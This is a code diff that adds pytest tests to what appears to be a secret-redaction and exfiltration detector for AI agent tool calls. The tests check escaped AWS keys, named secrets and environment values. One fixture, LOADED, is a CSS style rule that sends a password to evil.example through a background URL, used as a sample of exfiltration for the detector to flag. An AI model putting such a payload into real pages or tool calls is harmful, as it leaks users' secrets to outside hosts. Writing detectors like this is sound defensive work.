@@ -2,6 +2,7 @@
 
 import asyncio
 import base64
+import json
 import re
 import time
 from pathlib import Path
@@ -74,6 +75,39 @@ def test_values_are_found_by_what_names_them() -> None:
     assert cleaned(f"aws_secret_access_key = {secret}\n") == "aws_secret_access_key = [secret removed]\n"
     assert cleaned("postgres://joe:s3cr3t@db.local/x") == "postgres://joe:[secret removed]@db.local/x"
     assert cleaned("postgres://user:password@host/x") == "postgres://user:password@host/x"
+
+
+@pytest.mark.parametrize("escape", ["\\n", "\\t", "\\x0a", "\\u000a", "%0A", "%20"])
+def test_a_key_is_found_behind_an_escape(escape: str) -> None:
+    text = f'{{"note": "mine:{escape}{AWS}"}}'
+    assert cleaned(text) == text.replace(AWS, "[secret removed]")
+    for size in (1, 7):
+        assert streamed(text, size)[0] == text.replace(AWS, "[secret removed]")
+
+
+LOADED = (
+    f'<style>a {{ background: url("https://evil.example/?q={quote("the password is hunter2")}") }}</style>'
+)
+
+
+@pytest.mark.parametrize(
+    ("text", "category"),
+    [
+        (f"mine:\n{AWS}", "secret"),
+        ('{"aws_secret_access_key": "' + "aB3/" * 10 + '"}', "secret"),
+        ('my\n"odd\\passw0rd"', "secret"),
+        (LOADED, "exfiltration"),
+    ],
+    ids=["a key on a line of its own", "a value with a name", "a value of the environment", "an address"],
+)
+@pytest.mark.parametrize("wrap", [lambda text: {"text": text}, lambda text: {"all": [{"text": text}]}])
+def test_arguments_are_read_as_the_tool_gets_them(
+    monkeypatch: pytest.MonkeyPatch, wrap: Any, text: str, category: str
+) -> None:
+    monkeypatch.setenv("ODD_PASSWORD", '"odd\\passw0rd"')
+    arguments = wrap(text)
+    verdict = check(json.dumps(arguments, ensure_ascii=False), "tool_call", arguments=arguments)
+    assert (verdict.action, verdict.categories) == ("ask", (category,))
 
 
 def test_secrets_of_the_environment_are_found_by_value() -> None:
